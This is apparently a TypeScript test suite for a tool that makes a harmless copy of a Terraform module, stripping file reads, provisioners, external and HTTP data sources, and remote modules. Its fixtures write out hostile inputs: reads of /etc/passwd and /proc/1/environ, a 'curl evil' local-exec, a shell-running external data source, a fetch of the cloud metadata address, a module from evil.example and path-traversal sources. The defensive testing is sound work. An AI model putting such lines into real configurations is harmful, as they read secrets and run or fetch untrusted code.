import { describe, expect, it } from 'vitest';
import { buildConfiguration } from '../../../terraform/build-configuration.ts';
import { copyModule, type HarmlessCopy } from './copy-module.ts';
import { forbiddenCallIn } from './forbidden-calls.ts';

const mirrored = new Map([['registry.terraform.io/hashicorp/aws', ['6.2.0', '5.100.0', '5.1.0']]]);
const bucket = 'resource "aws_s3_bucket" "b" {\n  bucket = "x"\n}\n';

function copyOf(files: Readonly<Record<string, string>>, directory = ''): HarmlessCopy | string {
  const configuration = buildConfiguration(new Map(Object.entries(files)));
  return copyModule(directory, (each) => configuration.modulesByDirectory.get(each)?.files ?? [], mirrored);
}

function copied(files: Readonly<Record<string, string>>, directory = ''): HarmlessCopy {
  const copy = copyOf(files, directory);
  if (typeof copy === 'string') throw new Error(copy);
  return copy;
}

/** A file of the copy of a module that is nothing but `text` and a bucket. */
function harmless(text: string): string {
  const { copy } = copied({ 'main.tf': bucket + text });
  return (copy.files.find(({ path }) => path === 'main.tf')?.text ?? '').slice(bucket.length);
}

function asking(constraint: string): HarmlessCopy {
  const aws = `aws = {\n      source = "hashicorp/aws"\n      version = "${constraint}"\n    }`;
  return copied({ 'main.tf': `terraform {\n  required_providers {\n    ${aws}\n  }\n}\n${bucket}` });
}

function versionsIn({ copy }: HarmlessCopy): readonly string[] {
  return [...copy.providers.values()];
}

describe('a copy that Terraform may read', () => {
  it.each([
    ['file("/etc/passwd")', 'terraform_data.terrafix_unknown.output'],
    ['"x-${file("/proc/1/environ")}"', '"x-${terraform_data.terrafix_unknown.output}"'],
    ['jsondecode(file("${path.module}/p.json"))', 'jsondecode(terraform_data.terrafix_unknown.output)'],
    ['core::templatefile("t", {})', 'terraform_data.terrafix_unknown.output'],
    ['[for f in fileset("/", "**") : f]', '[for f in terraform_data.terrafix_unknown.output : f]'],
    ['var.a ? filebase64("/x") : ""', 'var.a ? terraform_data.terrafix_unknown.output : ""'],
    ['x[*][file("/x")]', 'x[*][terraform_data.terrafix_unknown.output]'],
    ['templatestring(local.t, {})', 'terraform_data.terrafix_unknown.output'],
    ['provider::local::direxists("/")', 'terraform_data.terrafix_unknown.output'],
    ['"the path of a file (optional)"', '"the path of a file [optional)"'],
  ])('reads no file for %s', (expression, expected) => {
    expect(harmless(`locals {\n  a = ${expression}\n}\n`)).toBe(`locals {\n  a = ${expected}\n}\n`);
  });

  it('has nothing in comments that could be taken for code, and its lines where they were', () => {
    const text = harmless('# file("/etc/passwd")\nlocals {\n  a = 1 /* file(\n"/x") */\n}\n// end\n');
    expect(text).not.toContain('file');
    expect(text.split('\n')).toHaveLength(7);
  });

  it('runs nothing, keeps no state and moves none', () => {
    const text = harmless(`terraform {
  required_version = "~> 0.12"
  backend "s3" {
    bucket = "state"
  }
  cloud {
    organization = "acme"
  }
}
resource "aws_instance" "i" {
  ami = "a"
  provisioner "local-exec" {
    command = "curl evil"
  }
  connection {
    host = "h"
  }
}
import {
  to = aws_s3_bucket.b
  id = "x"
}
moved {
  from = aws_s3_bucket.a
  to   = aws_s3_bucket.b
}
`);
    expect(text.replaceAll(/\s+/g, ' ').trim()).toBe(
      'terraform { } resource "aws_instance" "i" { ami = "a" }',
    );
  });

  it('leaves out what other providers make, and does not know what is read of it', () => {
    const { copy, providersLeftOut } = copied({
      'main.tf': `${bucket}data "external" "run" {
  program = ["sh", "-c", "id"]
}
data "http" "get" {
  url = "http://169.254.169.254/"
}
resource "random_id" "r" {
  byte_length = 2
}
provider "kubernetes" {
  host = "h"
}
resource "aws_sns_topic" "t" {
  name       = "t-\${random_id.r[0].hex}-\${data.http.get.body}"
  depends_on = [random_id.r, data.external.run]
}
`,
    });
    expect(providersLeftOut.toSorted()).toEqual([
      'hashicorp/external',
      'hashicorp/http',
      'hashicorp/kubernetes',
      'hashicorp/random',
    ]);
    const text = copy.files.find(({ path }) => path === 'main.tf')?.text ?? '';
    expect(text.slice(bucket.length).replaceAll(/\s+/g, ' ').trim()).toBe(
      'resource "aws_sns_topic" "t" { name = "t-${terraform_data.terrafix_unknown.output}-${terraform_data.terrafix_unknown.output}" depends_on = [terraform_data.terrafix_unknown, terraform_data.terrafix_unknown] }',
    );
    expect([...copy.providers.keys()]).toEqual(['registry.terraform.io/hashicorp/aws']);
  });

  it('installs no module: one from elsewhere is stood in for by what is read of it', () => {
    const { copy, modulesLeftOut } = copied(
      {
        'envs/prod/main.tf': `${bucket}module "vpc" {
  source    = "git::https://evil.example/vpc"
  version   = "1.0"
  providers = { aws = aws.east }
  count     = 2
  cidr      = "10.0.0.0/8"
}
output "ids" {
  value = [module.vpc[0].vpc_id, module.vpc[*].arn]
}
`,
      },
      'envs/prod',
    );
    expect(modulesLeftOut).toEqual(['git::https://evil.example/vpc']);
    expect(copy.calls).toEqual([
      { key: 'vpc', source: '../../terrafix-stand-ins/0', directory: 'terrafix-stand-ins/0' },
    ]);
    const standIn = copy.files.find(({ path }) => path === 'terrafix-stand-ins/0/main.tf.json');
    expect(JSON.parse(standIn?.text ?? '')).toMatchObject({
      variable: { cidr: { type: 'any' } },
      output: {
        vpc_id: { value: '${terraform_data.terrafix_unknown.output}' },
        arn: { value: '${terraform_data.terrafix_unknown.output}' },
      },
    });
    expect(copy.files.map(({ text }) => text).join('')).not.toContain('evil');
  });

  it('stands in for a local module without files, such as a git submodule', () => {
    const call = 'module "logs" {\n  source = "./shared/logs"\n  days   = 7\n}\n';
    const { copy, modulesLeftOut } = copied({ 'main.tf': bucket + call });
    expect(modulesLeftOut).toEqual(['./shared/logs']);
    expect(copy.calls).toEqual([
      { key: 'logs', source: './terrafix-stand-ins/0', directory: 'terrafix-stand-ins/0' },
    ]);
  });

  it('holds the local modules below it, each under every key', () => {
    const { copy } = copied({
      'main.tf': `${bucket}module "a" {\n  source = "./m"\n}\nmodule "b" {\n  source = "./m/"\n}\n`,
      'm/main.tf': 'module "deep" {\n  source = "../n"\n}\n',
      'n/main.tf': bucket,
      'elsewhere/main.tf': bucket,
    });
    expect(copy.calls.map(({ key, directory }) => `${key} ${directory}`).toSorted()).toEqual([
      'a m',
      'a.deep n',
      'b m',
      'b.deep n',
    ]);
    expect(copy.files.some(({ path }) => path.startsWith('elsewhere'))).toBe(false);
  });

  it.each(['/etc', '../../outside', 'file:///etc', './m?archive=zip'])(
    'never goes to a module at %s',
    (source) => {
      const { copy } = copied({ 'main.tf': `${bucket}module "m" {\n  source = "${source}"\n}\n` });
      const places = [...copy.calls.map(({ directory }) => directory), ...copy.files.map(({ path }) => path)];
      expect(places.filter((place) => place.startsWith('..') || place.startsWith('/'))).toEqual([]);
    },
  );

  it('is not made of a module that calls itself', () => {
    const code = `${bucket}module "m" {\n  source = "./"\n}\n`;
    expect(copyOf({ 'main.tf': code })).toBe('it calls too many modules');
  });

  it('is not made of the JSON syntax, nor of what only OpenTofu reads', () => {
    expect(copyOf({ 'main.tf': bucket, 'x.tf.json': '{}' })).toContain('native syntax');
    expect(copyOf({ 'main.tf': bucket, 'x.tofu': '' })).toContain('native syntax');
  });

  it('is not made of what could be a call after all', () => {
    // A broken file, of which the tree is not the whole truth.
    const code = `${bucket}locals {\n  a = ]] file("/etc/passwd")\n}\n`;
    expect(copyOf({ 'main.tf': code })).toContain('could be a call');
  });

  it('asks the newest version that is allowed, and says so where none is', () => {
    expect(versionsIn(asking('~> 5.0'))).toEqual(['5.100.0']);
    expect(asking('~> 5.0').otherVersions).toEqual([]);
    expect(versionsIn(asking('~> 4.0'))).toEqual(['6.2.0']);
    expect(asking('~> 4.0').otherVersions).toEqual(['hashicorp/aws 6.2.0']);
  });

  it('needs a provider that is there', () => {
    expect(copyOf({ 'main.tf': 'resource "google_x" "y" {}\n' })).toBe(
      'none of its providers is in the mirror',
    );
  });
});

describe('what could be a call that reads files', () => {
  it.each([
    'file("x")',
    'file ("x")',
    'file\n("x")',
    'file/* */("x")',
    'a ? fileset("/", "*") : 1',
    'core::file("x")',
    'provider::x::y(1)',
  ])('is %j', (text) => expect(forbiddenCallIn(text)).not.toBeNull());

  it.each(['profile("x")', 'my_file("x")', 'file = "x"', 'aws_s3_file.x', 'file-system (a)', 'upper("x")'])(
    'is not %j',
    (text) => expect(forbiddenCallIn(text)).toBeNull(),
  );
});
